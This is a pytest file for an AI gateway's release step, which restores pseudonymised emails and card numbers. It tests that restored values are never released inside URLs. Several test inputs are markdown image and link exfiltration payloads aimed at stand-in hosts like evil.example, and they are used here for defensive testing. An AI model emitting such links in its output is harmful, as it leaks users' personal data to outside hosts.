"""release: the caller's values are written back in plain text, and what is released is what was screened."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from secure_ai_gateway.screening.pseudonymise import Pseudonymiser
from secure_ai_gateway.screening.release import release
from secure_ai_gateway.screening.verdict import keyed_digest
from tests.gateway.screening.fakes import CARD, EMAIL, local_policy

REPOSITORY = Path(__file__).resolve().parents[3]
DIGEST_KEY = b"release-test-digest-key-32-bytes!"
PSEUDONYMS = Pseudonymiser([f"I am {EMAIL}, card {CARD}."])


def released(answer: str) -> tuple[str, str | None]:
    result = release(
        answer, PSEUDONYMS, local_policy(), canary=None, schema=None, moderation=None, digest_key=DIGEST_KEY
    )
    return result.verdict.decision, result.text


@pytest.mark.parametrize(
    "answer",
    [
        "Nothing personal here.",
        "Write to <EMAIL_1> about <CARD_1>.",
        "Ask help@vendor.example, not <EMAIL_1>.",
        "![x](https://<CARD_1>.evil.example/p.png)",
        "[site](https://example.com/?q=<EMAIL_1>)",
        "<EMAIL_1>@evil.example and https://evil.example/<CARD_1>",
    ],
)
def test_the_released_text_is_exactly_the_text_the_screen_passed(answer: str) -> None:
    # When an answer is released
    result = release(
        answer, PSEUDONYMS, local_policy(), canary=None, schema=None, moderation=None, digest_key=DIGEST_KEY
    )
    # Then the verdict's keyed digest is of the released text, or there is neither
    if result.text is None:
        assert (result.verdict.decision, result.verdict.content_digest) == ("block", None)
    else:
        assert result.verdict.content_digest == keyed_digest(DIGEST_KEY, result.text.encode())


def test_values_are_written_back_in_plain_text() -> None:
    assert released("Write to <EMAIL_1>.") == ("allow", f"Write to {EMAIL}.")


def test_a_redacted_answer_releases_its_redacted_form_with_the_callers_values() -> None:
    assert released("Ask help@vendor.example, not <EMAIL_1>.") == ("redact", f"Ask [EMAIL], not {EMAIL}.")


def test_a_card_placeholder_in_an_image_host_is_not_written_and_the_image_blocks() -> None:
    decision, text = released("![x](https://<CARD_1>.evil.example/p.png)")
    assert CARD not in (text or "")
    assert decision == "block"


@pytest.mark.parametrize(
    "answer",
    [
        "https://shop.example/pay?who=<EMAIL_1>",
        "[pay](https://shop.example/pay?who=<EMAIL_1>)",
        '<a href="https://shop.example/?who=<EMAIL_1>">pay</a>',
        "![i](https://shop.example/<EMAIL_1>.png)",
        "[pay][r]\n\n[r]: https://shop.example/?who=<EMAIL_1>",
    ],
)
def test_a_value_is_never_released_inside_a_url_even_to_an_allowed_host(answer: str) -> None:
    # Given a host the policy allows, and an answer putting the caller's placeholder in a URL to it
    policy = local_policy(allowed_hosts=["shop.example"])
    # When the answer is released
    result = release(answer, PSEUDONYMS, policy, canary=None, schema=None, moderation=None, digest_key=None)
    # Then the caller's address is not in what is released (kept as a placeholder, or blocked)
    assert result.text is None or EMAIL not in result.text


def test_release_is_the_only_code_that_restores_pseudonyms() -> None:
    # Given every module of the layer and the functions
    sources = [*REPOSITORY.glob("packages/*/src/**/*.py"), *REPOSITORY.glob("functions/*/*/*.py")]
    # When their calls of a `restore` method are listed
    callers = {
        path.relative_to(REPOSITORY).as_posix()
        for path in sources
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "restore"
    }
    # Then release.py is the only one: nothing restores outside the screen-then-release order
    assert callers == {"packages/gateway/src/secure_ai_gateway/screening/release.py"}


def test_a_value_that_becomes_part_of_a_url_once_written_blocks_even_without_the_link_detector() -> None:
    # Given an answer that is no URL with the placeholder, but one with the address written in,
    # under a policy that does not run the exfiltration detector
    policy = local_policy(detectors=frozenset({"pii", "secrets"}))
    # When it is released
    result = release(
        "Status: https://<EMAIL_1>.evil.example/status",
        PSEUDONYMS,
        policy,
        canary=None,
        schema=None,
        moderation=None,
        digest_key=DIGEST_KEY,
    )
    # Then the release itself blocks it, reporting the value's place in markup
    assert (result.verdict.decision, result.text) == ("block", None)
    assert [finding.label for finding in result.verdict.findings if finding.action == "block"] == [
        "value_in_markup"
    ]
